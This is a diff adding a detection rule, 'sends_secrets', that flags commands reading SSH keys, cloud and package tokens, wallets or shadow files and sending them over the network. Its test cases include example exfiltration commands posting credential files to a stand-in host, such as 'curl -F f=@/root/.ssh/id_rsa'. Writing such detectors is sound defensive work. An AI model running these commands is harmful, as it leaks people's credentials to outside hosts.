@@ -1,0 +1,20 @@
+-- sends_secrets: sends keys, tokens or passwords over the network
+-- platform:        any
+-- technique:       T1003
+-- weight:          50
+-- false positives: a job that puts its own key into a request's header; it names no file of keys
+--
+-- pattern: unix (\.ssh/(id_|\*|config)|[/ "'~]\.ssh[ "']|id_(rsa|ed25519|ecdsa)|\.npmrc|\.pypirc|\.netrc|\.aws/|/\.aws[ "']|\.kube/|kubernetes/[a-z]*\.conf|\.docker/config|gh/hosts|gh auth token|\.gnupg|\.vault-token|Login Data|logins\.json|wallet\.dat|Exodus/|\.config/solana|[Kk]eychain|/environ|process\.env|printenv|\(env |security-credentials|/etc/g?shadow|-name token).*(curl( [^;]*)? (-d|-F|-T|--data|--upload|--form|-X *POST)|wget [^;]*--post|requests\.(post|put)|urlopen\([^;]*data=|urlopen\([^,;]*, *[a-z]|method: *["']POST|https\.request|dig +|(^|[ |/])nc(at)? +[0-9a-z.-]+ [0-9]|scp |/dev/tcp/)
+-- pattern: unix curl( [^;]*)? (-d|-F|-T|--data|--upload|--form)[^;]*(\.ssh/|\.npmrc|\.aws/|\.kube/|\.docker/config|id_rsa|wallet|[Kk]eychain|/etc/g?shadow|\(env[ )]|\.netrc)
+-- fires:   {"unix": "cat ~/.npmrc ; curl -d @- https://x.example.org/"}
+-- fires:   {"unix": "curl -F f=@/root/.ssh/id_rsa https://x.example.org/"}
+-- fires:   {"unix": "open('.aws/credentials') ; urllib.request.urlopen(u, data=body)"}
+-- spares:  {"unix": "curl -d @/srv/report.txt https://x.example.org/"}
+-- spares:  {"unix": "cat ~/.npmrc ; curl https://x.example.org/"}
+--
+-- shape:   unit_command
+-- fires:   {"script_patterns": "[\"sends_secrets\"]"}
+-- fires:   {"script_patterns": "[\"downloads\",\"sends_secrets\"]"}
+-- spares:  {"script_patterns": "[\"downloads\"]"}
+-- spares:  {"script_patterns": null}
+script_patterns LIKE '%"sends_secrets"%'
